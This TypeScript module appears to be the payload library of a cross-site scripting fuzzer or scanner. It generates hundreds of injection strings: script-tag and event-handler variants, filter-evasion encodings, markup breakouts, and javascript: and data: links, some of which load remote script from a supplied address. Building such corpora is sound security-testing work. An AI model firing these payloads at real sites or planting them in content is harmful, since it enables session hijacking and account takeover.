/** Elements and attributes that would run something, or link to something that does. */
import type { Recipe } from './recipe.ts'

const SCRIPTS: Recipe[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<script >${call}</script >`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<script\t>${call}</script>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<script defer>${call}</script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script type="text/javascript">${call}</script>`,
  (call) => `<script>${call}`,
  (call) => `<script>${call}//`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script><!--\n${call}\n--></script>`,
  (call) => `<![CDATA[<script>${call}</script>]]>`,
  (call) => `<noscript><p title="</noscript><script>${call}</script>">`,
  (call) => `<xmp></xmp><script>${call}</script>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<?xml version="1.0"?><script>${call}</script>`,
  (_, address) => `<script src=${address}></script>`,
  (_, address) => `<script src="${address}"></script>`,
  (_, address) => `<SCRIPT SRC='${address}'></SCRIPT>`,
  (_, address) => `<script/src=${address}></script>`,
  (_, address) => `<script src=${address.replace('https:', '')}></script>`,
  (_, address) => `<script type=module src=${address}></script>`,
  (_, address) => `<script>import('${address}')</script>`,
  (_, address) => `<script>fetch('${address}')</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script>eval(atob('${btoa(call)}'))</script>`,
]

/** Ways to break out of the surrounding markup. */
const EXITS = [
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</select>',
  '</noscript>',
  '</iframe>',
  '</template>',
  '</pre>',
  '</p></td></table>',
  ']]>',
  '*/',
  '\\">',
  '%22%3E',
  '&quot;>',
]
const ENTRIES: Recipe[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
]
const BREAKOUTS = EXITS.flatMap((exit) =>
  ENTRIES.map(
    (entry): Recipe =>
      (...to) =>
        exit + entry(...to),
  ),
)

const ATTRIBUTES: Recipe[] = ['"', "'", '`', ''].flatMap((quote): Recipe[] => [
  (call) => `${quote} autofocus onfocus=${quote}${call}`,
  (call) => `${quote} onmouseover=${quote}${call}${quote} x=${quote}`,
  (call) => `${quote} style=${quote}animation:x${quote} onanimationstart=${quote}${call}`,
  (call) => `${quote}/onpointerenter=${call}//`,
])

const SELF_STARTING: Recipe[] = [
  'img src=x onerror',
  'img src onerror',
  'IMG SRC=x OnErRoR',
  'image src=x onerror',
  'img/src=x/onerror',
  'img src=data: onerror',
  'img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload',
  'svg onload',
  'svg/onload',
  'SVG ONLOAD',
  'svg><animate onbegin',
  'svg><animate attributeName=x dur=1s onend',
  'svg><set onbegin',
  'svg><image href=x onerror',
  'svg><script href=x onerror',
  'body onload',
  'body onpageshow',
  'body onresize',
  'frameset onload',
  'iframe onload',
  'iframe src=about:blank onload',
  'object data=x onerror',
  'object data=about:blank onload',
  'embed src=about:blank onload',
  'video src=x onerror',
  'video><source onerror',
  'video src onloadstart',
  'audio src=x onerror',
  'audio src onloadstart',
  'input autofocus onfocus',
  'input type=image src=x onerror',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'a href=# autofocus onfocus',
  'p tabindex=0 autofocus onfocus',
  'p contenteditable autofocus onfocus',
  'keygen autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'marquee loop=1 width=0 onfinish',
  'link rel=stylesheet href=x onerror',
  'link rel=stylesheet href=data:text/css, onload',
  'style onload',
  'script src=x onerror',
  'x onclick',
  'x oncontentvisibilityautostatechange',
  'p style=animation:x onanimationstart',
  'p style=transition:1s ontransitionend',
  'dialog open onclose',
].map(
  (opening): Recipe =>
    (call) =>
      `<${opening}=${call}>`,
)

const HANDLED: Recipe[] = [
  ...['onclick', 'onmouseover', 'onmouseenter', 'onpointermove', 'onwheel', 'oncopy', 'oncut', 'onscroll', 'onkeydown'],
  ...['onbeforeinput', 'ondrag', 'oncontextmenu', 'onauxclick', 'ontouchstart', 'onfocusin', 'onbeforetoggle'],
].flatMap((event): Recipe[] => [(call) => `<b ${event}="${call}">b</b>`, (call) => `<i/${event}='${call}'>i</i>`])

const SCRIPT_ADDRESSES: Recipe[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `&#x6A;avascript:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript:/*x*/${call}`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
  (call) => `data:image/svg+xml,<svg onload=${call}>`,
]
const LINKED: Recipe[] = [
  ...SCRIPT_ADDRESSES,
  ...SCRIPT_ADDRESSES.slice(0, 6).map(
    (link): Recipe =>
      (...to) =>
        `<a href="${link(...to)}">a</a>`,
  ),
  ...SCRIPT_ADDRESSES.slice(0, 4).map(
    (link): Recipe =>
      (...to) =>
        `<iframe src="${link(...to)}">`,
  ),
  ...SCRIPT_ADDRESSES.slice(0, 4).map(
    (link): Recipe =>
      (...to) =>
        `<form><button formaction="${link(...to)}">b`,
  ),
  (call) => `<form action=javascript:${call}><input type=submit>`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<embed src=javascript:${call}>`,
  (call) => `<base href=javascript:${call}//>`,
  (call) => `<area href=javascript:${call}>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;">`,
  (call) => `[a](javascript:${call})`,
  (call) => `![a](x"onerror="${call})`,
  (call) => `<javascript:${call}>`,
  (_, address) => `[a](${address})`,
  (_, address) => `![a](${address})`,
]

export const MARKUP_RECIPES: readonly Recipe[] = [SCRIPTS, SELF_STARTING, BREAKOUTS, ATTRIBUTES, HANDLED, LINKED].flat()
